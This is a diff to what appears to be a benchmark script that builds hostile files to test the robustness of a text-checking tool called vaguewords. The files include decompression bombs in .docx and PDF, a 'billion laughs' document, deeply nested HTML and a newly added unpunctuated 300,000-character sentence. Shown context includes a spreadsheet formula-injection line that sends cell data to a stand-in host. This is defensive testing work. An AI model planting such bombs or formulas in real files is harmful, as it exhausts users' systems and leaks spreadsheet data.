@@ -1,13 +1,15 @@
-"""Hostile files, built on the spot, and what reading them costs.
+"""Hostile files, built on the spot, and what reading and analysing them costs.
 
-    python benchmarks/hostile.py [--folder DIR] [--keep]
+    python benchmarks/hostile.py [--folder DIR] [--keep] [--two-mb]
 
 builds the full-size files of issue 17 (a .docx whose document.xml inflates to 1.2 GB, a
 "billion laughs" .docx, a PDF whose content stream inflates to about 1 GB, 200,000 nested <div>s,
-a handout of formula-like sentences), runs ``vaguewords check`` once on each and once on a folder of
-all of them beside a good handout, and prints the exit code, wall time, peak memory (the child's
-maximum resident set size) and the stderr lines of every run. tests/test_hostile.py builds the same
-files with smaller parameters.
+300,000 characters written as one sentence with no punctuation, a handout of formula-like
+sentences), runs ``vaguewords check`` once on each and once on a folder of all of them beside a
+good handout, and prints the exit code, wall time, peak memory (the largest process's maximum
+resident set size) and the stderr lines of every run. Then it analyses the one-sentence text with
+the analysis time budget raised, to show what the analysis itself costs (``--two-mb``: also 2 MB of
+it, a few minutes). tests/test_hostile.py builds the same files with smaller parameters.
 """
 
 from __future__ import annotations
@@ -173,6 +175,16 @@ def nested_html(path: Path, depth: int) -> Path:
     return path
 
 
+UNPUNCTUATED = "robust support will be provided soon and the council will act in stages as needed "
+
+
+def one_sentence(path: Path, chars: int) -> Path:
+    """``chars`` characters of vague promises with no punctuation and no line break: one
+    sentence, dense in findings, built against the analysis rather than the readers."""
+    path.write_text((UNPUNCTUATED * (chars // len(UNPUNCTUATED) + 1))[:chars], encoding="utf-8")
+    return path
+
+
 FORMULA_SENTENCES = (
     '=HYPERLINK("http://example.invalid/?"&A1,"robust support soon")',
     "+SUM(1,2) robust measures will follow soon.",
@@ -192,6 +204,7 @@ FULL_SIZE = {
     "laughs.docx": lambda folder: billion_laughs_docx(folder / "laughs.docx"),
     "stream.pdf": lambda folder: pdf_stream_bomb(folder / "stream.pdf", 1_000_000_000),
     "nested.html": lambda folder: nested_html(folder / "nested.html", 200_000),
+    "one_sentence.txt": lambda folder: one_sentence(folder / "one_sentence.txt", 300_000),
     "formulas.txt": lambda folder: formula_handout(folder / "formulas.txt"),
 }
 
@@ -264,6 +277,9 @@ def main() -> None:
         "--folder", type=Path, help="where to build the files (default: a temp dir)"
     )
     parser.add_argument("--keep", action="store_true", help="keep the files afterwards")
+    parser.add_argument(
+        "--two-mb", action="store_true", help="also analyse 2 MB written as one sentence"
+    )
     options = parser.parse_args()
     folder = options.folder or Path(tempfile.mkdtemp(prefix="vaguewords-hostile-"))
     folder.mkdir(parents=True, exist_ok=True)
@@ -297,6 +313,22 @@ def main() -> None:
             print(
                 f"{path.name:<28} {result['seconds']:>8.1f} {result['peak_mb']:>8.0f}  "
                 f"{(result['stdout'].strip() or result['stderr'][-1:])[:90]}"
+            )
+        print(
+            f"\n{'analysis, budget raised':<28} {'exit':>4} {'seconds':>8} {'peak MB':>8}  result"
+        )
+        texts = [folder / "one_sentence.txt"]
+        if options.two_mb:
+            texts.append(one_sentence(folder / "one_sentence_2mb.txt", 2_000_000))
+        for path in texts:
+            result = run(
+                ["check", str(path), "-f", "csv", "--limit", "max_text_chars=3M",
+                 "--limit", "analysis_budget_seconds=3600"]
+            )  # fmt: skip
+            rows = max(0, len(result["stdout"].splitlines()) - 1)
+            print(
+                f"{path.name:<28} {result['exit']:>4} {result['seconds']:>8.1f} "
+                f"{result['peak_mb']:>8.0f}  {path.stat().st_size:,} characters, {rows:,} findings"
             )
         for raw in ([], ["--raw-csv"]):
             rows = run(["check", str(folder / "formulas.txt"), "-f", "csv", *raw])["stdout"]
